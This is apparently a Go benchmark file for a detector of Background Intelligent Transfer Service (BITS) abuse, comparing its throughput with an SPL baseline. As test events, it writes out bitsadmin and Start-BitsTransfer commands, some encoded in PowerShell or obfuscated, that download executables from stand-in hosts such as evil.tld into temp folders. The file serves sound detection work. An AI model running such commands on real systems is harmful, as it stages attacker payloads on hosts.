package hardened

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"bitsscore/src/detect"
	"bitsscore/src/internal/testevents"
)

func toInputs(d detect.Detector, e event) []detect.Values {
	in := make([]detect.Values, len(d.Inputs()))
	for i, name := range d.Inputs() {
		for _, v := range e[name] {
			in[i] = append(in[i], []byte(v))
		}
	}
	return in
}

// BenchmarkScore scores a mix of attacks and ordinary events, each
// analysed (the memo, which would answer these seven events after their
// first time, is off); steady state must not allocate.
func BenchmarkScore(b *testing.B) {
	d := New(nil).(*Detector)
	d.memo = nil
	var events [][]detect.Values
	for _, e := range []event{
		bitsadmin(`/transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\bitsadmin1_flag.ps1`),
		powershell(`-NoP -enc ` + encode(`Start-BitsTransfer -Source https://evil.tld/a.exe -Destination $env:TEMP\a.exe`)),
		scriptBlock(`Start-BitsTransfer -Priority foreground -Source https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md -Destination C:\Users\bits.ps1`),
		transfer(`https://releases.ubuntu.com/20.04.3/ubuntu-20.04.3-desktop-amd64.iso`),
		jobCreated(`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`),
		serviceChild(cmdExe, `cmd.exe /c calc.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS`),
		sysmon1(`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234,5678 /prefetch:1`),
	} {
		events = append(events, toInputs(d, e))
	}
	out := make([]detect.Values, len(d.Outputs()))
	for _, in := range events { // warm the buffers
		d.Score(in, out)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := range b.N {
		d.Score(events[i%len(events)], out)
	}
}

// BenchmarkScoreLength scores adversarial command lines of growing length
// (many URLs, quotes, switches and encoded payloads): ns/op must grow
// linearly, which the reported MB/s staying flat shows.
func BenchmarkScoreLength(b *testing.B) {
	unit := `/transfer j h"tt"ps://a.microsoft.com.evil.tld/x?.microsoft.com C:\Users\Public\a"b".exe -Source http://1.2.3.4/a.exe -Destination $env:TEMP\x.exe `
	for _, n := range []int{1 << 10, 1 << 14, 1 << 18} {
		cmd := "bitsadmin " + strings.Repeat(unit, n/len(unit)+1)[:n]
		for _, c := range []struct {
			name string
			e    event
		}{
			{"bitsadmin", bitsadmin(cmd)},
			{"script", scriptBlock("Start-BitsTransfer " + cmd)},
			{"encoded", powershell("-enc " + encode("Start-BitsTransfer "+cmd[:n/2]))},
		} {
			b.Run(fmt.Sprintf("%s/%dKiB", c.name, n>>10), func(b *testing.B) {
				d := New(nil)
				in := toInputs(d, c.e)
				out := make([]detect.Values, len(d.Outputs()))
				d.Score(in, out)
				b.SetBytes(int64(n))
				b.ReportAllocs()
				b.ResetTimer()
				for range b.N {
					d.Score(in, out)
				}
			})
		}
	}
}

// BenchmarkScoreTestEvents scores the mix the end-to-end benchmarks stream
// (src/internal/testevents: mostly benign process creations, the Atomic
// Red Team T1197 lines, now and then an encoded PowerShell line) with
// mode=spl and mode=hardened over the same events, and reports
// hardened's throughput as a fraction of spl's (of-spl; the target is at
// least 0.5). The Unique variant makes every command line distinct, so
// the SPL's memo never answers.
func BenchmarkScoreTestEvents(b *testing.B) {
	for _, c := range []struct {
		name           string
		unique, benign bool
	}{{"repeated", false, false}, {"unique", true, false}, {"unique-benign", true, true}} {
		b.Run(c.name, func(b *testing.B) {
			d := New(nil)
			spl := detect.NewSPL()
			events := testEventsInputs(b, d, c.unique)
			if c.benign {
				events = withoutBITS(events)
			}
			splIn := make([][]detect.Values, len(events))
			for i, in := range events {
				splIn[i] = make([]detect.Values, len(spl.Inputs()))
				for j, name := range spl.Inputs() {
					splIn[i][j] = in[slices.Index(d.Inputs(), name)]
				}
			}
			out := make([]detect.Values, len(d.Outputs()))
			var th, ts time.Duration
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; b.Loop(); i++ {
				k := i % len(events)
				start := time.Now()
				d.Score(events[k], out)
				mid := time.Now()
				spl.Score(splIn[k], out[:len(spl.Outputs())])
				th += mid.Sub(start)
				ts += time.Since(mid)
			}
			b.ReportMetric(float64(ts)/float64(th), "of-spl")
			b.ReportMetric(float64(b.N)/th.Seconds(), "hardened-events/s")
		})
	}
}

// withoutBITS keeps the events that name neither BITS nor PowerShell in
// their command line or image: ordinary process creations, which must cost
// little more than the SPL's own scan.
func withoutBITS(events [][]detect.Values) [][]detect.Values {
	var kept [][]detect.Values
	for _, in := range events {
		text := bytes.ToLower(bytes.Join(append(slices.Clone(in[inCommandLine]), in[inImage]...), nil))
		if !bytes.Contains(text, []byte("bits")) && !bytes.Contains(text, []byte("powershell")) {
			kept = append(kept, in)
		}
	}
	return kept
}

// testEventsInputs decodes 4096 events of testevents.Body (CSV whose
// header names CommandLine and Image first) as d's inputs, each a Sysmon
// process creation.
func testEventsInputs(tb testing.TB, d detect.Detector, unique bool) [][]detect.Values {
	tb.Helper()
	records, err := csv.NewReader(bytes.NewReader(testevents.Body(4096, 1197))).ReadAll()
	if err != nil || len(records) < 2 || records[0][0] != "CommandLine" || records[0][1] != "Image" {
		tb.Fatalf("testevents.Body: %v, header %q", err, records[0])
	}
	var events [][]detect.Values
	for n := 0; n < 1<<16; n++ {
		r := records[1+n%(len(records)-1)]
		cmd := r[0]
		if unique {
			cmd = fmt.Sprintf("%s /id:%d", cmd, n)
		} else if n >= len(records)-1 {
			break
		}
		events = append(events, toInputs(d, ev("EventCode", "1", "CommandLine", cmd, "Image", r[1])))
	}
	return events
}
